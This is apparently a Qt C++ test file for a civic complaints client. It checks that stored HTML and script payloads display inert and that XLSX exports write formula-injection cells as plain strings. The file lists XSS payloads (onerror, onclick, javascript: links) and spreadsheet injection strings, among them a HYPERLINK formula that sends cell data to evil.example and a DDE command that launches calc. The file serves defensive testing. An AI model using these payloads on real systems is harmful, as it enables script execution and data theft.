// Stored script and HTML payloads are shown inert, and exports write hostile cells as text
// (issue 9: hostile input, client half). A complaint and a notice full of markup are written
// through the real server; the worker's window shows the complaint's words literally in the
// detail pane (no element, no event attribute, no javascript: link is rendered) and the
// notice sanitised; the XLSX exports write cells that start with = + - @ or a control
// character as strings, never formulas.

#include "application.h"
#include "clientcontext.h"
#include "complaints/complaintdetail.h"
#include "complaints/complaintspage.h"
#include "fans/fanexports.h"
#include "fans/xlsxexport.h"
#include "guisupport.h"
#include "mainwindow.h"
#include "notices/noticedetailview.h"
#include "notices/noticespage.h"
#include "testsupport.h"

#include <QApplication>
#include <QLabel>
#include <QProcess>
#include <QRegularExpression>
#include <QSettings>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextBrowser>
#include <QTextDocument>
#include <QTextEdit>
#include <QUuid>
#include <QXmlStreamReader>

using namespace Qt::StringLiterals;
using namespace civic;

namespace {

const QString kHepan = u"210111001001"_s;
const QString kTitle = u"<script>alert('title')</script>"_s;
const QString kContent
    = u"<img src=x onerror=alert(1)>楼道灯坏了<b>三天</b>\n<a href=\"javascript:alert(2)\">详情</a>"_s;
const QString kNickname = u"<i onmouseover=alert(3)>王</i>"_s;
const QString kLocation = u"<a href='javascript:alert(4)'>3号楼</a>"_s;
const QString kReplyText = u"<style>*{display:none}</style><b onclick=alert(5)>已派人</b>"_s;
const QString kResolution = u"<iframe src=javascript:alert(6)></iframe>已修好"_s;
const QString kFinalReply = u"<a href=javascript:alert(7)>满意请点</a>"_s;

// Cells a spreadsheet would run as formulas (CSV/formula injection).
const QStringList kFormulas = {
    u"=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")"_s,
    u"=cmd|' /C calc'!A0"_s,
    u"+1+1"_s,
    u"-1+1"_s,
    u"@SUM(A1:A9)"_s,
    u"\t=1+1"_s,
    u"\r=1+1"_s,
};

QString newId()
{
    return QUuid::createUuid().toString(QUuid::WithoutBraces);
}

// What a document renders that could act: an image (loaded by its src) or a link whose
// target is not http(s). Empty when the document is inert.
QString activeParts(const QTextDocument &document)
{
    QStringList found;
    for (QTextBlock block = document.begin(); block.isValid(); block = block.next()) {
        for (auto it = block.begin(); !it.atEnd(); ++it) {
            const QTextCharFormat format = it.fragment().charFormat();
            if (format.isImageFormat()) {
                const QString src = format.toImageFormat().name();
                if (!src.startsWith(u"http://"_s) && !src.startsWith(u"https://"_s))
                    found << u"image "_s + src;
            }
            if (format.isAnchor()) {
                // An anchor without a target (the sanitiser drops a javascript: href) goes nowhere.
                const QString href = format.anchorHref().trimmed();
                if (!href.isEmpty() && !href.startsWith(u"http://"_s)
                    && !href.startsWith(u"https://"_s))
                    found << u"link "_s + href;
            }
        }
    }
    return found.join(u", "_s);
}

// The text a label shows, and whether any of it is live markup.
struct Shown
{
    QString text;
    QString active;
};

Shown shown(const QLabel *label)
{
    const bool rich = label->textFormat() == Qt::RichText
        || (label->textFormat() == Qt::AutoText && Qt::mightBeRichText(label->text()));
    if (!rich)
        return { label->text(), {} };
    QTextDocument document;
    document.setHtml(label->text());
    return { document.toPlainText(), activeParts(document) };
}

QByteArray unzip(const QString &file, const QString &member)
{
    QProcess p;
    p.start(u"unzip"_s, { u"-p"_s, file, member });
    p.waitForFinished(30000);
    return p.readAllStandardOutput();
}

// OOXML writes characters XML cannot hold as _xHHHH_ (ECMA-376 ST_Xstring).
QString unescapeXstring(QString text)
{
    static const QRegularExpression escape(u"_x([0-9A-Fa-f]{4})_"_s);
    QRegularExpressionMatch m;
    qsizetype from = 0;
    while ((m = escape.match(text, from)).hasMatch()) {
        const QChar c(char16_t(m.captured(1).toUShort(nullptr, 16)));
        text.replace(m.capturedStart(), m.capturedLength(), c);
        from = m.capturedStart() + 1;
    }
    return text;
}

// A workbook's shared strings and, per sheet, the cells' types and how many formulas it has.
struct Workbook
{
    QStringList strings;
    int formulas = 0;
    QStringList cellTypes;
};

Workbook readWorkbook(const QString &file, int sheets)
{
    Workbook book;
    QXmlStreamReader strings(unzip(file, u"xl/sharedStrings.xml"_s));
    while (!strings.atEnd()) {
        if (strings.readNext() == QXmlStreamReader::StartElement && strings.name() == u"t")
            book.strings << unescapeXstring(strings.readElementText());
    }
    for (int s = 1; s <= sheets; ++s) {
        QXmlStreamReader sheet(unzip(file, u"xl/worksheets/sheet%1.xml"_s.arg(s)));
        while (!sheet.atEnd()) {
            if (sheet.readNext() != QXmlStreamReader::StartElement)
                continue;
            if (sheet.name() == u"f")
                ++book.formulas;
            else if (sheet.name() == u"c")
                book.cellTypes << sheet.attributes().value(u"t"_s).toString();
        }
    }
    return book;
}

} // namespace

class TestHostileGui : public QObject
{
    Q_OBJECT

private:
    QTemporaryDir m_dir;
    test::DemoServer m_server;
    QString m_complaint;
    QString m_notice;

    bool apply(const QString &token, const QJsonObject &op)
    {
        const test::HttpReply r = test::push(m_server.http(), token, { op });
        const QString status
            = r.json().value(u"results"_s).toArray().at(0).toObject().value(u"status"_s).toString();
        if (status != u"applied")
            qWarning("%s", r.body.constData());
        return status == u"applied";
    }

private Q_SLOTS:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        QSettings::setPath(
            QSettings::NativeFormat, QSettings::UserScope, m_dir.filePath(u"user-settings"_s));
        QSettings::setPath(
            QSettings::NativeFormat, QSettings::SystemScope, m_dir.filePath(u"machine-settings"_s));
        QCoreApplication::setOrganizationName(u"CivicDesk"_s);
        QCoreApplication::setApplicationName(u"CivicDesk"_s);
        QString why;
        QVERIFY2(m_server.start(u"sqlite"_s, &why), qPrintable(why));

        // Written through the server as any client or the platform could.
        const QString worker = test::login(m_server.http(), u"demo.worker"_s);
        m_complaint = newId();
        QVERIFY(apply(worker,
            test::op(u"complaint.create"_s,
                { { u"id"_s, m_complaint }, { u"community"_s, kHepan },
                    { u"category"_s, u"物业"_s }, { u"title"_s, kTitle },
                    { u"content"_s, kContent }, { u"nickname"_s, kNickname },
                    { u"location"_s, kLocation }, { u"channel"_s, u"walk_in"_s } })));
        QVERIFY(apply(worker,
            test::op(u"complaint.reply"_s,
                { { u"complaint"_s, m_complaint }, { u"text"_s, kReplyText } })));
        QVERIFY(apply(worker,
            test::op(u"complaint.resolve"_s,
                { { u"complaint"_s, m_complaint }, { u"resolution"_s, kResolution },
                    { u"reply"_s, kFinalReply } })));
        m_notice = newId();
        QVERIFY(apply(worker,
            test::op(u"notice.save"_s,
                { { u"id"_s, m_notice }, { u"unit"_s, kHepan }, { u"category"_s, u"通知"_s },
                    { u"title"_s, kTitle },
                    { u"body_html"_s,
                        u"<p onclick=\"alert(1)\">停水通知</p><script>alert('body')</script>"_s
                            + kContent
                            + u"<img src=\"javascript:alert(8)\"><iframe src=x></iframe>"_s },
                    { u"scheduled_at"_s, QJsonValue(QJsonValue::Null) } })));
    }

    void cleanupTestCase() { m_server.stop(); }

    void complaintAndNoticeShowPayloadsInert()
    {
        app::Options options;
        options.dataDir = m_dir.filePath(u"worker"_s);
        app::Application client(*qApp, options);
        ui::MainWindow *window
            = test::signInThroughDialog(client, m_server.port(), u"demo.worker"_s);
        QVERIFY(window);
        QTRY_VERIFY_WITH_TIMEOUT(
            test::labelText(window, u"lastSyncLabel"_s).contains(u"刚刚"_s), 30000);

        window->showPage(ui::ComplaintsPageIndex);
        auto *complaints
            = qobject_cast<ui::ComplaintsPage *>(window->page(ui::ComplaintsPageIndex));
        QVERIFY(complaints);
        complaints->selectComplaint(m_complaint);
        ui::ComplaintDetailPane *detail = complaints->detail();
        QTRY_VERIFY(detail->findChild<QLabel *>(u"contentLabel"_s)->isVisible());

        // Every label of the pane: nothing live, and each field shown as it was written.
        for (const QLabel *label : detail->findChildren<QLabel *>()) {
            const Shown s = shown(label);
            QVERIFY2(s.active.isEmpty(), qPrintable(label->objectName() + u": "_s + s.active));
        }
        const auto field
            = [&](const QString &name) { return shown(detail->findChild<QLabel *>(name)).text; };
        QCOMPARE(field(u"complaintTitleLabel"_s), kTitle);
        QCOMPARE(field(u"contentLabel"_s), kContent);
        QCOMPARE(field(u"residentLabel"_s), kNickname);
        QVERIFY2(
            field(u"locationLabel"_s).contains(kLocation), qPrintable(field(u"locationLabel"_s)));
        const QString outcome = field(u"outcomeLabel"_s);
        QVERIFY2(
            outcome.contains(kResolution) && outcome.contains(kFinalReply), qPrintable(outcome));
        auto *timeline = detail->findChild<QTextBrowser *>(u"timelineView"_s);
        QVERIFY(timeline);
        QVERIFY2(activeParts(*timeline->document()).isEmpty(),
            qPrintable(activeParts(*timeline->document())));
        const QString events = timeline->toPlainText();
        for (const QString &text : { kReplyText, kResolution, kFinalReply })
            QVERIFY2(events.contains(text), qPrintable(events));

        // The notice: its title literally, its body through the sanitiser.
        window->showPage(ui::NoticesPageIndex);
        auto *notices = qobject_cast<ui::NoticesPage *>(window->page(ui::NoticesPageIndex));
        QVERIFY(notices);
        notices->openNotice(m_notice);
        ui::NoticeDetailView *view = notices->detail();
        for (const auto tab : { ui::NoticeDetailView::EditTab, ui::NoticeDetailView::PreviewTab }) {
            view->setCurrentTab(tab);
            QTest::qWait(50);
            for (const QLabel *label : view->findChildren<QLabel *>()) {
                const Shown s = shown(label);
                QVERIFY2(s.active.isEmpty(), qPrintable(label->objectName() + u": "_s + s.active));
                QVERIFY2(!s.text.contains(u"alert('body')"_s), qPrintable(label->objectName()));
            }
            for (const QTextEdit *edit : view->findChildren<QTextEdit *>()) {
                const QString active = activeParts(*edit->document());
                QVERIFY2(active.isEmpty(), qPrintable(edit->objectName() + u": "_s + active));
                QVERIFY2(!edit->toPlainText().contains(u"alert('body')"_s),
                    qPrintable(edit->objectName()));
                QVERIFY2(!edit->toHtml().contains(u"onclick"_s, Qt::CaseInsensitive),
                    qPrintable(edit->objectName()));
            }
        }
        QCOMPARE(shown(view->findChild<QLabel *>(u"previewTitleLabel"_s)).text, kTitle);
        auto *body = view->findChild<QTextEdit *>(u"previewBody"_s);
        QVERIFY(body);
        QVERIFY2(body->toPlainText().contains(u"停水通知"_s), qPrintable(body->toPlainText()));
    }

    void exportsWriteFormulasAsText()
    {
        // The one XLSX writer every export goes through, with hostile text in every place
        // text goes: title, subtitle, headers, cells, the total row.
        ui::XlsxSheet sheet;
        sheet.name = kFormulas.at(0);
        sheet.title = kFormulas.at(1);
        sheet.subtitle = kFormulas.at(4);
        for (const QString &f : kFormulas)
            sheet.columns.append({ f, ui::XlsxColumn::Format::Text, 12 });
        sheet.rows.append(QVariantList(kFormulas.begin(), kFormulas.end()));
        sheet.total = QVariantList(kFormulas.begin(), kFormulas.end());
        const QString plain = m_dir.filePath(u"plain.xlsx"_s);
        QString error;
        QVERIFY2(ui::writeXlsx(plain, { sheet }, &error), qPrintable(error));
        Workbook book = readWorkbook(plain, 1);
        QCOMPARE(book.formulas, 0);
        QVERIFY(book.cellTypes.contains(u"s"_s));
        QVERIFY(!book.cellTypes.contains(u"str"_s)); // a formula's cached result
        // Every hostile text is a shared string, exactly as given.
        for (const QString &f : kFormulas)
            QVERIFY2(book.strings.contains(f), qPrintable(f));
        // The fans export, with units named as formulas (a district names its units).
        ui::FanChartData data;
        data.unitName = kFormulas.at(0);
        data.from = QDate(2026, 7, 1);
        data.to = QDate(2026, 7, 31);
        for (const QString &f : kFormulas) {
            item::FanUnitFigures child;
            child.code = f;
            child.name = f;
            child.level = u"community"_s;
            child.households = 100;
            child.hasFigures = true;
            data.children.append(child);
        }
        const QList<ui::XlsxSheet> sheets = ui::fanChartSheets(data);
        const QString fans = m_dir.filePath(u"fans.xlsx"_s);
        QVERIFY2(ui::writeXlsx(fans, sheets, &error), qPrintable(error));
        book = readWorkbook(fans, int(sheets.size()));
        QCOMPARE(book.formulas, 0);
        QVERIFY(book.strings.contains(kFormulas.at(1)));
        QVERIFY(!book.cellTypes.contains(u"str"_s));
    }
};

QTEST_MAIN(TestHostileGui)
#include "tst_hostile_gui.moc"
